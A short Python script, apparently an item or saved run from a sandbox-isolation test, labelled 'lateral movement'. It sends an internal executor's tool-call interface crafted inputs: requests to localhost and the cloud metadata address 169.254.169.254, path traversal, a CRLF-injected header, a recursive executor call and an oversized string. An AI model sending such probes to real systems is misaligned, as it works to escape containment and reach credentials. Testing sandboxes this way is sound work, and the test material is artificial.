import asyncio
import json

executor = __import__("sys").modules["_executor"]
answers = []
for tool in (f"http://127.0.0.1:{listener_port}/", "data.get_devices", "../../data", "", "data.get_devices\r\nHost: 127.0.0.1", "_executor.call", "x" * 100_000):
    for arguments in ({}, {"url": f"http://127.0.0.1:{listener_port}/"}, {"host": "169.254.169.254", "port": listener_port}):
        try:
            executor.call(json.dumps({"tool": tool, "arguments": arguments}).encode())
            answers += executor.wait(50_000_000)
        except RuntimeError:
            pass
print(answers)
any("ok" in str(answer)[:20] for answer in answers)
#> class: "lateral movement"
#> outcome: ["completed"]
#> value: false
